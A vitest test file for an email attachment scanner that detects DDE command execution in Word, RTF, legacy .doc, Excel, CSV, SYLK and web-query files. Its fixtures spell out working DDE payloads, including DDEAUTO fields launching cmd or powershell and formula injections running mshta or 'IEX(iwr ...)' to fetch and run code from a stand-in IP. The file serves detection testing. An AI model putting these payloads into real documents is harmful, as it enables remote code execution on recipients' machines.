import { describe, expect, it } from 'vitest';
import * as o from '../../../../test-fixtures/attachments/office-payloads.mjs';
import type { Finding } from '../types.js';
import { makeContext, makeMessage, makePolicy } from '../test-helpers.js';
import { ddeDocx, ddeXlsx, fld, run, splitField, wordXml } from './lure-fixtures.js';
import { ddeProgram, formulaDdeHits, rtfDdeHits, wordBinaryDdeHits, wordDdeHits, wordFieldInstructions } from './dde.js';
import { attachmentsScanner } from './index.js';
import { fakeClamd, makeAttachment } from './test-helpers.js';

/** DDE in Word fields (OOXML, RTF, .doc), Excel formulas and links, CSV/SYLK/web queries (dde.ts). */

const scan = async (name: string, data: Buffer, contentType = 'application/octet-stream') => {
  const att = makeAttachment(name, data, { contentType, id: 'a1' });
  return attachmentsScanner.scan(makeMessage({ attachments: [att] }), makeContext(makePolicy(), { clamd: fakeClamd() }));
};
const dde = (fs: Finding[]) => fs.filter((f) => f.tags?.includes('dde')).map((f) => [f.kind, ...(f.tags ?? [])]);

describe('DDE in Word fields', () => {
  it('reads a DDEAUTO field split over runs, in the body and in a header', async () => {
    const body = splitField('D', 'DE', 'AUTO c:\\\\windows\\\\system32\\\\cmd.exe ', '"/k powershell -c calc"');
    expect(dde(await scan('thong-bao.docx', await ddeDocx(body)))).toEqual([['attachment.exploit', 'dde', 'cmd', 'ooxml']]);
    expect(dde(await scan('thong-bao.docx', await ddeDocx(body, 'word/header1.xml')))).toEqual([['attachment.exploit', 'dde', 'cmd', 'ooxml']]);
  });

  it('reads w:fldSimple instructions and DDE names built by a nested QUOTE field', () => {
    const simple = `<w:fldSimple w:instr=" DDE &quot;C:\\\\Programs\\\\Microsoft\\\\Office\\\\MSWord.exe\\\\..\\\\..\\\\..\\\\..\\\\windows\\\\system32\\\\WindowsPowerShell\\\\v1.0\\\\powershell.exe -NoP -w hidden&quot; &quot;x&quot;"><w:r><w:t>x</w:t></w:r></w:fldSimple>`;
    expect(wordDdeHits(wordXml(simple)).map((h) => h.program)).toEqual(['powershell']);
    // { {QUOTE 68 68 69 65 85 84 79} c:\windows\system32\mshta.exe "http://…" }
    const nested = `${fld('begin')}${fld('begin')}${run('QUOTE 68 68 69 65 85 84 79')}${fld('end')}${run(' c:\\\\windows\\\\system32\\\\mshta.exe http://198.51.100.7/a.hta')}${fld('end')}`;
    expect(wordFieldInstructions(wordXml(nested))).toContain('DDEAUTO c:\\\\windows\\\\system32\\\\mshta.exe http://198.51.100.7/a.hta');
    expect(wordDdeHits(wordXml(nested)).map((h) => h.program)).toEqual(['mshta']);
  });

  it('finds a DDE field after a thousand ordinary fields, and a simple field with a long instruction', () => {
    const many = splitField(' PAGEREF _Toc1 \\h ').repeat(1000) + splitField('DDEAUTO cmd "/c calc"');
    expect(wordDdeHits(wordXml(many)).map((h) => h.program)).toEqual(['cmd']);
    const long = `<w:fldSimple w:instr="DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe &quot;/k powershell -enc ${'A'.repeat(3000)}&quot;"/>`;
    expect(wordDdeHits(wordXml(long)).map((h) => h.program)).toEqual(['cmd']);
  });

  it('says nothing of ordinary fields (PAGE, TOC, HYPERLINK) or the word "DDE" in text', async () => {
    const body = `${splitField(' PAGE ')}${splitField(' TOC \\o "1-3" ')}${splitField(' HYPERLINK "https://dichvucong.gov.vn" ')}<w:r><w:t>DDEAUTO là gì?</w:t></w:r>`;
    expect(await scan('ke-hoach.docx', await ddeDocx(body))).toEqual([]);
  });

  it('reads an RTF \\fldinst DDEAUTO, also split by groups and control words', async () => {
    const rtf = Buffer.from('{\\rtf1{\\field{\\*\\fldinst {\\rtlch\\fcs1 DD}{E}{AUTO c:\\\\\\\\windows\\\\\\\\system32\\\\\\\\cmd.exe "/k calc"}}{\\fldrslt x}}}', 'latin1');
    expect(rtfDdeHits(rtf).map((h) => h.program)).toEqual(['cmd']);
    expect(dde(await scan('cong-van.rtf', rtf))).toEqual([['attachment.exploit', 'dde', 'cmd', 'rtf']]);
    const page = Buffer.from('{\\rtf1{\\field{\\*\\fldinst PAGE}{\\fldrslt 1}} Trang}', 'latin1');
    expect(await scan('cong-van.rtf', page)).toEqual([]);
  });

  it('reads a DDE field in a legacy .doc (8-bit and UTF-16 text)', async () => {
    for (const enc of ['latin1', 'utf16le'] as const) {
      const text = Buffer.from('Kính gửi \x13 DDEAUTO c:\\windows\\system32\\cmd.exe "/c calc" \x14 x\x15', enc);
      expect(wordBinaryDdeHits(Buffer.concat([Buffer.alloc(1024), text])).map((h) => h.program)).toEqual(['cmd']);
      const doc = o.makeCompoundFile({ '/WordDocument': Buffer.concat([Buffer.alloc(1024), text, Buffer.alloc(512)]), '/1Table': Buffer.alloc(512) });
      expect(dde(await scan('cong-van.doc', doc))).toEqual([['attachment.exploit', 'dde', 'cmd', 'ole']]);
    }
    const page = Buffer.from('\x13 PAGE \x14 1\x15 DDE ', 'latin1');
    expect(wordBinaryDdeHits(page)).toEqual([]);
  });
});

describe('DDE in Excel formulas and links', () => {
  it('finds the formula shapes (=cmd|, =MSEXCEL|, @SUM(cmd|…), =DDE(…), a SYLK ;E cell)', () => {
    const progs = (t: string) => formulaDdeHits(t).map((h) => h.program);
    expect(progs(`=cmd|' /C calc'!A0`)).toEqual(['cmd']);
    expect(progs(`=MSEXCEL|'\\..\\..\\..\\Windows\\System32\\cmd.exe /c powershell -enc AAAA'!''`)).toEqual(['cmd']);
    expect(progs(`@SUM(1+1)*cmd|' /C mshta http://198.51.100.7/x'!A0`)).toEqual(['cmd']);
    expect(progs(`=DDE("cmd";"/C calc";"__DdeLink_60_870516294")`)).toEqual(['cmd']);
    expect(progs(`C;X1;Y1;K0;ECMD|' /C powershell -w hidden'!A0`)).toEqual(['cmd']);
    expect(progs(`=BLP|'IBM US Equity'!PX_LAST`)).toEqual(['blp']);
    // prose with bars, quotes and bangs is not a formula
    expect(progs(`ten | 'mot'! hai, a|b, x = y | 'z'`)).toEqual([]);
    expect(ddeProgram(`DDEAUTO c:\\windows\\system32\\WindowsPowerShell\\v1.0\\powershell.exe -nop`)).toBe('powershell');
  });

  it('reports a CSV, a SYLK and a web query calling a program, and an .xlsx ddeLink', async () => {
    const csv = Buffer.from(`STT,Ho ten,Ghi chu\r\n1,Nguyen Van A,"=cmd|' /C powershell -w hidden IEX(iwr http://198.51.100.7/a)'!A0"\r\n`, 'latin1');
    expect(dde(await scan('danh-sach.csv', csv, 'text/csv'))).toEqual([['attachment.exploit', 'dde', 'cmd', 'csv']]);
    const slk = Buffer.from(`ID;P\r\nC;Y1;X1;K0;ECMD|' /C calc'!A0\r\nE\r\n`, 'latin1');
    expect(dde(await scan('bang-luong.slk', slk))).toEqual([['attachment.exploit', 'dde', 'cmd', 'slk']]);
    const iqy = Buffer.from('WEB\r\n1\r\nhttps://198.51.100.7/bao-cao.dqy\r\n', 'latin1');
    const fs = await scan('bao-cao.iqy', iqy);
    expect(fs.filter((f) => f.kind === 'attachment.external-object').map((f) => f.tags)).toEqual([['web-query', 'https', 'iqy']]);
    expect(dde(await scan('so-lieu.xlsx', await ddeXlsx('cmd', '/C calc')))).toEqual([['attachment.exploit', 'dde', 'cmd', 'ooxml']]);
    expect(dde(await scan('so-lieu.xlsx', await ddeXlsx('', '', "cmd|' /C calc'!A0")))).toEqual([['attachment.exploit', 'dde', 'cmd', 'ooxml']]);
  });

  it('reports a DDE link to a data program (not a command) as an external object', async () => {
    expect(dde(await scan('gia.xlsx', await ddeXlsx('BLP', 'IBM US Equity')))).toEqual([['attachment.external-object', 'dde', 'blp', 'ooxml']]);
  });

  it('says nothing of an ordinary CSV (with formulas and bars) or .xlsx', async () => {
    const csv = Buffer.from(`STT,Ho ten,Tong\r\n1,"Nguyen | Van A",=SUM(A1:A3)\r\n2,'x'!,=HYPERLINK("https://dichvucong.gov.vn")\r\n`, 'latin1');
    expect(await scan('danh-sach.csv', csv, 'text/csv')).toEqual([]);
    expect(await scan('so-lieu.xlsx', await ddeXlsx('', ''))).toEqual([]);
  });
});

describe('DDE readers on hostile input', () => {
  it('stay linear on 4 MB of bars, field runs and \\fldinst groups', () => {
    const t0 = performance.now();
    formulaDdeHits(`=a|'`.repeat(1 << 20));
    formulaDdeHits('|'.repeat(4 << 20));
    wordDdeHits(`<w:instrText>`.repeat(300_000));
    wordDdeHits(`<w:fldChar w:fldCharType="begin"/>`.repeat(120_000));
    wordDdeHits(`<w:fldSimple w:instr="`.repeat(200_000));
    rtfDdeHits(Buffer.from('{\\fldinst '.repeat(400_000), 'latin1'));
    rtfDdeHits(Buffer.from(`\\fldinst${'{'.repeat(4 << 20)}`, 'latin1'));
    wordBinaryDdeHits(Buffer.from('\x13DDE'.repeat(1 << 20), 'latin1'));
    expect(performance.now() - t0).toBeLessThan(5000);
  });
});
